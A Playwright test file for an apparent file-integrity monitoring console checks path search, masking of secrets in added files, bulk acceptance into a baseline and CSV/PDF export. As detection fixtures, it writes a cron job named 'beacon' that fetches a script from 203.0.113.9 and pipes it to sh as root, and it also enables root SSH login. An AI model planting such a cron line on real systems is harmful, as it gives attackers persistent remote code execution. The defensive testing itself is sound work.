// The Events screen as a Halo or Tripwire user works it, on its own console and store: two
// servers held to one gold master, a changed sshd_config, a new cron job and a sudoers drop-in, and
// a dozen generated files on each. Path search (substring and glob) with the server and the policy
// still shown beside the details; an added file's kept content (a secret masked); a filtered
// selection accepted into the baseline with one note; the list exported as CSV and PDF from the
// screen, read back. Screenshots in test-results/screenshots/ (30-…).
import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { ConsolePage, EventsPage } from './pages/console.js';
import { apiClient, type ApiClient } from './support/api.js';
import { csvRecords } from './support/csv.js';
import { startServe, type ServeProcess } from './support/serve.js';

const POLICY = 'Linux core';
const GENERATED = 12;
let serve: ServeProcess;
let api: ApiClient;
let home: string;
let tree: string;
let scratch: string;

test.describe('reviewing events', () => {
  // One store through the steps a reviewer takes: the export comes after the bulk accept.
  test.describe.configure({ mode: 'serial' });
  test.beforeAll(async () => {
    home = fs.mkdtempSync(path.join(os.tmpdir(), 'driftwatch-e2e-review-'));
    tree = fs.mkdtempSync(path.join(os.tmpdir(), 'driftwatch-e2e-review-etc-'));
    scratch = fs.mkdtempSync(path.join(os.tmpdir(), 'driftwatch-e2e-review-out-'));
    for (const d of ['ssh', 'cron.d', 'sudoers.d', 'app']) fs.mkdirSync(path.join(tree, d));
    fs.writeFileSync(path.join(tree, 'ssh', 'sshd_config'), 'PermitRootLogin no\nPasswordAuthentication no\n');
    serve = await startServe(home);
    api = apiClient(serve.url);
    await api.call('policies/add', { name: POLICY });
    await api.call('policies/addTarget', { policy: POLICY, target: { path: tree, depth: null, critical: true, alert: false, content: 4096 } });
    await api.call('groups/add', { name: 'web', policies: [POLICY] });
    for (const name of ['web-1', 'web-2']) await api.call('servers/add', { name, local: true, group: 'web' });
    await api.call('baselines/create', { policy: POLICY, servers: ['web-1'] });
    // The drift: both servers see the same tree, so each file is an event on each server.
    fs.writeFileSync(path.join(tree, 'ssh', 'sshd_config'), 'PermitRootLogin yes\nPasswordAuthentication no\n');
    fs.writeFileSync(path.join(tree, 'cron.d', 'beacon'), '*/5 * * * * root curl -s http://203.0.113.9/b | sh\n');
    fs.writeFileSync(path.join(tree, 'sudoers.d', 'deploy'), 'deploy ALL=(root) /usr/bin/systemctl restart app\napi_token = 9f8e7d6c5b4a\n');
    for (let i = 0; i < GENERATED; i++) fs.writeFileSync(path.join(tree, 'app', `gen-${String(i).padStart(2, '0')}.conf`), `id ${i}\n`);
    await api.call('scans/run', { all: true });
  });

  test.afterAll(async () => {
    await serve?.stop();
    for (const dir of [home, tree, scratch]) if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  test('search by path, with the server and the policy kept beside the details', async ({ page }) => {
    const app = new ConsolePage(page);
    const events = new EventsPage(page);
    await app.open(serve.url);
    await app.go('Events');
    await events.searchPath('sshd_config');
    await events.expectCount(2);
    await events.openEvent(path.join(tree, 'ssh', 'sshd_config'));
    // Two servers' sshd_config must not look alike: each row still names its server and policy.
    for (const server of ['web-1', 'web-2']) {
      const row = events.serverRow('sshd_config', server);
      await expect(row).toHaveCount(1);
      await expect(row.getByText(server, { exact: true })).toBeVisible();
      await expect(row.getByText(POLICY, { exact: true })).toBeVisible();
    }
    await app.screenshot('30-events-path-search-details');

    await events.searchPath('*/cron.d/*');
    await events.expectCount(2);
    await events.searchPath('*/app/gen-0?.conf');
    await events.expectCount(20);
    await events.searchPath('no-such-file');
    await expect(page.getByText('No events match these filters')).toBeVisible();
  });

  test("an added file's detail shows the content kept for it, secrets masked", async ({ page }) => {
    const app = new ConsolePage(page);
    const events = new EventsPage(page);
    await app.open(serve.url);
    await app.go('Events');
    await events.searchPath('cron.d/beacon');
    await events.expectCount(2);
    const cron = await events.openEvent(path.join(tree, 'cron.d', 'beacon'));
    const content = cron.getByLabel('Content of the added file');
    await expect(content).toHaveText('+*/5 * * * * root curl -s http://203.0.113.9/b | sh');
    await expect(cron.getByRole('columnheader', { name: 'Baseline (not in baseline)' })).toBeVisible();
    await content.scrollIntoViewIfNeeded();
    await app.screenshot('31-events-added-cron-content');

    await events.searchPath('sudoers.d/deploy');
    const sudoers = await events.openEvent(path.join(tree, 'sudoers.d', 'deploy'));
    await expect(sudoers.getByLabel('Content of the added file').locator('div')).toHaveText(['+deploy ALL=(root) /usr/bin/systemctl restart app', '+[masked: matches token]']);
    await expect(sudoers.getByText('1 line matches a secret pattern and is masked')).toBeVisible();
    await expect(sudoers).not.toContainText('9f8e7d6c5b4a');
    await sudoers.getByLabel('Content of the added file').scrollIntoViewIfNeeded();
    await app.screenshot('32-events-added-sudoers-masked');
  });

  test('select a filtered set (a range, then all that match) and accept it into the baseline with one note', async ({ page }) => {
    const app = new ConsolePage(page);
    const events = new EventsPage(page);
    await app.open(serve.url);
    await app.go('Events');
    await events.searchPath('*/app/gen-*');
    const total = 2 * GENERATED;
    await events.expectCount(total);
    const rows = events.list().locator('[data-event-id]');
    await events.tick(rows.nth(1));
    await events.tick(rows.nth(5), true);
    await expect(events.toolbar().getByTestId('selected-count')).toHaveText('5 events selected');
    await expect(rows.locator('input[type=checkbox]:checked')).toHaveCount(5);
    await events.toolbar().getByRole('button', { name: `Select all ${total} that match` }).click();
    await expect(events.toolbar().getByTestId('selected-count')).toHaveText(`${total} events selected`);
    await expect(rows.locator('input[type=checkbox]:checked')).toHaveCount(total);
    await app.screenshot('33-events-selected-all-matching');
    await events.bulkAccept(total, 'baseline', 'CHG-4242: app configs generated by the release', '34-events-bulk-accept-dialog');
    await expect(app.notice(`Accepted ${total} events into the baseline.`)).toBeVisible();
    await expect(page.getByText('No events match these filters')).toBeVisible();

    // Every one of them accepted with the note; nothing else was.
    const accepted = await api.call('events/list', { status: 'accepted' });
    expect(accepted.total).toBe(total);
    expect(accepted.events.every((e) => /\/app\/gen-\d\d\.conf$/.test(e.path) && e.accepted?.note === 'CHG-4242: app configs generated by the release' && e.accepted.scope === 'baseline')).toBe(true);
    expect((await api.call('events/list', { status: 'open' })).total).toBe(6);
    await page.getByLabel('Status').selectOption('accepted');
    await events.expectCount(total);
    await app.screenshot('35-events-accepted');
  });

  test('export what the screen shows, as CSV and PDF, with its filters', async ({ page }) => {
    const app = new ConsolePage(page);
    const events = new EventsPage(page);
    await app.open(serve.url);
    await app.go('Events');
    await page.getByLabel('Status').selectOption('open');
    await page.getByLabel('Server').selectOption('web-2');
    await events.expectCount(3);
    const shown = (await events.list().locator('[data-event-id]').evaluateAll((rows) => rows.map((r) => Number(r.getAttribute('data-event-id'))))).sort((a, b) => a - b);
    await app.screenshot('36-events-export-filtered');

    const csvFile = await events.export('CSV', scratch);
    expect(path.basename(csvFile)).toMatch(/^driftwatch-events-[\d-T]+\.csv$/);
    const rows = csvRecords(fs.readFileSync(csvFile, 'utf8'));
    expect(rows.map((r) => Number(r.id)).sort((a, b) => a - b)).toEqual(shown);
    expect(rows.every((r) => r.server === 'web-2' && r.status === 'open' && r.policy === POLICY)).toBe(true);
    expect(rows.map((r) => path.relative(tree, r.path!)).sort()).toEqual(['cron.d/beacon', 'ssh/sshd_config', 'sudoers.d/deploy']);
    await expect(app.notice(`Saved ${path.basename(csvFile)}: 3 events.`)).toBeVisible();

    const pdfFile = await events.export('PDF', scratch);
    expect(path.basename(pdfFile)).toMatch(/^driftwatch-events-[\d-T]+\.pdf$/);
    expect(fs.readFileSync(pdfFile).subarray(0, 5).toString('latin1')).toBe('%PDF-');
    const text = execFileSync('pdftotext', ['-layout', pdfFile, '-'], { encoding: 'utf8' });
    expect(text).toContain('Driftwatch events');
    expect(text).toContain('Filter: status open; server web-2');
    expect(text).toContain('Events: 3.');
    const cells = execFileSync('pdftotext', ['-raw', pdfFile, '-'], { encoding: 'utf8' }).replace(/\s+/g, '');
    for (const id of shown) expect(cells).toContain(`${id}web-2Linuxcore${tree.replace(/\s+/g, '')}/`);
    for (const file of ['cron.d/beacon', 'ssh/sshd_config', 'sudoers.d/deploy']) expect(cells).toContain(`${tree}/${file}`.replace(/\s+/g, ''));
    expect(cells).not.toContain('web-1');
    await expect(app.notice(/^Saved driftwatch-events-[\d-T]+\.pdf: 1 page\./)).toBeVisible();
    await app.screenshot('37-events-exported');
  });
});
